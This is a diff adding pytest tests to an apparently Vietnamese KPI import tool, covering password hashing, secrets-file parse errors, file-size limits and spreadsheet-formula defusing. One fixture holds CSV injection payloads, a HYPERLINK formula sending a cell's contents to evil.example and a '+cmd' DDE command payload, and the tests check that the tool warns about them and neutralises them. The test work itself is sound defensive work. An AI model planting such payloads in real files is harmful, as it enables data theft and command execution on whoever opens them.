@@ -274,3 +274,146 @@ def test_import_keeps_the_estimate_column_and_status_marks_the_figure(tmp_path, 
     ]
     table = kpis("status", "--data", str(data_dir), "--as-of", "2025")
     assert "4 (ước)" in table.stdout
+
+
+@pytest.mark.parametrize("user", ['tran"b', "a\\b", "Trần Thị B", "tab\there"])
+def test_hash_password_prints_a_line_that_parses_back_to_the_name_typed(tmp_path, user):
+    import tomllib
+
+    done = kpis("hash-password", "--user", user, stdin="một mật khẩu dài\n")
+    assert done.returncode == 0, done.stderr
+    secrets = tmp_path / "secrets.toml"
+    secrets.write_text("[editors]\n" + done.stdout, encoding="utf-8")
+    editors = tomllib.loads(secrets.read_text(encoding="utf-8"))["editors"]
+    assert list(editors) == [user]
+    assert verify_password("một mật khẩu dài", editors[user])
+
+
+def test_a_secrets_file_that_does_not_parse_is_named_with_its_line_not_as_not_an_editor(
+    tmp_path, data_dir
+):
+    from tests.helpers import editor_secrets
+
+    secrets = editor_secrets(tmp_path, "mật khẩu của an", user="nguyen_van_a")
+    # What pasting the old hash-password output for the user name tran"b gave.
+    with secrets.open("a", encoding="utf-8") as out:
+        out.write('"tran"b" = "scrypt$16384$8$1$x$y"\n')
+    upload = tmp_path / "u.csv"
+    upload.write_text("indicator,year,value,source\nbiotech_lab,2025,1,BC\n", encoding="utf-8")
+    before = files_bytes(data_dir)
+    for command in (
+        ["undo", "--data", str(data_dir)],
+        ["import", str(upload), "--data", str(data_dir)],
+    ):
+        said = kpis(*command, "--secrets", str(secrets), "--user", "nguyen_van_a")
+        assert said.returncode == 1
+        assert "không phải tài khoản biên tập" not in said.stderr
+        assert said.stderr.startswith(f"{secrets}:3: cột 7: tệp secrets không đọc được (Expected")
+        assert "hash-password --user" in said.stderr and "Traceback" not in said.stderr
+    english = kpis("undo", "--data", str(data_dir), "--secrets", str(secrets), "--lang", "en")
+    assert english.stderr.startswith(f"{secrets}:3: column 7: the secrets file does not parse")
+    assert files_bytes(data_dir) == before
+
+
+FORMULAS = (
+    "indicator,region,year,value,source,note\n"
+    'biotech_lab,Bắc Kạn,2025,1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")",@SUM(1+1)\n'
+    "public_st_orgs,Bắc Kạn,2025,3,+cmd|' /C calc'!A0,'=typed with a quote\n"
+)
+
+
+@pytest.mark.slow
+def test_a_source_that_a_spreadsheet_would_run_is_warned_about_and_the_trail_runs_nothing(
+    tmp_path, data_dir
+):
+    upload = tmp_path / "cong-thuc.csv"
+    upload.write_text(FORMULAS, encoding="utf-8")
+    refused = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
+    assert refused.returncode == 1
+    lines = refused.stdout.splitlines()
+    assert lines[0].startswith(
+        f'{upload}:2: source: warning: source «=HYPERLINK("http://evil.example/?x="&A1,"Bấm")» '
+        "begins with «=»: Excel or LibreOffice opening the figures file would run it as a formula"
+    )
+    assert lines[1].startswith(f"{upload}:3: source: warning: source «+cmd|' /C calc'!A0»")
+    assert lines[2].startswith(f"{upload}:2: note: warning: note «@SUM(1+1)» begins with «@»")
+    assert lines[-2].startswith("3 warnings")  # not the text typed with a quote
+    saved = kpis("import", str(upload), "--data", str(data_dir), "--accept-warnings")
+    assert saved.returncode == 0, saved.stdout
+
+    # The history reads back what was typed, quote and all.
+    rows = read_audit(data_dir)[-2:]
+    assert [(r["source"], r["new_note"]) for r in rows] == [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "@SUM(1+1)"),
+        ("+cmd|' /C calc'!A0", "'=typed with a quote"),
+    ]
+    # The trail opened in LibreOffice Calc: not one cell is a formula, the source reads as typed.
+    from openpyxl import load_workbook
+
+    libreoffice([data_dir / ".history" / "audit.csv"], "xlsx", tmp_path / "lo")
+    sheet = load_workbook(tmp_path / "lo" / "audit.xlsx").active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert any("HYPERLINK" in str(c.value) for c in cells)
+    # Undo reads the trail and writes its own rows: those are defused as well, read back whole.
+    assert kpis("undo", "--data", str(data_dir)).returncode == 0
+    assert read_audit(data_dir)[-1]["new_note"] in ("'=typed with a quote", "@SUM(1+1)", "")
+    libreoffice([data_dir / ".history" / "audit.csv"], "xlsx", tmp_path / "lo2")
+    sheet = load_workbook(tmp_path / "lo2" / "audit.xlsx").active
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_a_file_over_the_limit_names_the_way_round_and_file_mb_raises_it(tmp_path, data_dir):
+    upload = tmp_path / "lon.csv"
+    filler = "".join(
+        f"public_st_orgs,Huyện {n},2024,,{'ghi chú dài ' * 8}\n" for n in range(60_000)
+    )
+    upload.write_text("indicator,region,year,value,source\nbiotech_lab,,2025,1,BC 1\n" + filler)
+    size = upload.stat().st_size / 1024 / 1024
+    refused = kpis("import", str(upload), "--data", str(data_dir))
+    assert refused.stdout.splitlines()[0] == (
+        f"{upload}: tệp nặng {size:.1f} MB, lớn hơn giới hạn 5 MB: chia thành nhiều tệp nhỏ hơn "
+        "(ví dụ mỗi năm một tệp), hoặc xoá các trang tính, ảnh không cần thiết; quản trị viên "
+        "nhập được tệp lớn hơn bằng lệnh python -m kpis import TỆP --no-size-limit"
+    ).replace(f"{size:.1f}", f"{size:.1f}".replace(".", ","))
+    english = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
+    assert f"the file is {size:.1f} MB, over the 5 MB limit" in english.stdout
+    assert "python -m kpis import FILE --no-size-limit" in english.stdout
+    for how in (["--limit", "file_mb=10"], []):
+        env = {} if how else {"KPI_MAX_FILE_MB": "10"}
+        done = kpis("import", str(upload), "--data", str(data_dir), *how, env=env)
+        assert "giới hạn" not in done.stdout, how
+        assert done.returncode == 0 or "đã có" in done.stdout, done.stdout
+    smaller = kpis("import", str(upload), "--data", str(data_dir), "--limit", "file_mb=4")
+    assert "lớn hơn giới hạn 4 MB" in smaller.stdout
+
+
+def test_a_file_beyond_the_readers_limit_too_is_told_the_one_option_that_lifts_both(
+    tmp_path, data_dir
+):
+    upload = tmp_path / "lon.csv"
+    upload.write_text("indicator,year,value\n" + "biotech_lab,2025,1\n" * 400_000)
+    refused = kpis("import", str(upload), "--data", str(data_dir), "--limit", "file_mb=6")
+    assert refused.stdout.splitlines()[0].endswith("python -m kpis import TỆP --limit file_mb=8")
+
+
+@pytest.mark.slow
+def test_an_import_with_thousands_of_errors_prints_200_and_counts_the_rest(tmp_path, data_dir):
+    from kpis.commands.import_ import MOST_PROBLEM_LINES
+
+    upload = tmp_path / "lap.csv"
+    upload.write_text("indicator,year,value,source\n" + "biotech_lab,2025,1,BC\n" * 5_000)
+    done = kpis("import", str(upload), "--data", str(data_dir))
+    assert done.returncode == 1
+    lines = done.stdout.splitlines()
+    assert len(lines) == MOST_PROBLEM_LINES + 3
+    assert all(line.startswith(f"{upload}:") for line in lines[:MOST_PROBLEM_LINES])
+    assert lines[-3:] == [
+        "… và 4.799 vấn đề nữa (thường là cùng một lỗi lặp lại): sửa các vấn đề trên rồi chạy "
+        "lại, hoặc xem tất cả bằng python -m kpis validate --data TỆP",
+        "4999 lỗi, 0 cảnh báo",
+        "không thay đổi gì",
+    ]
+    # validate's output is the contract's: every problem, one a line.
+    every = kpis("validate", "--data", str(upload))
+    assert len(every.stdout.splitlines()) == 5_000
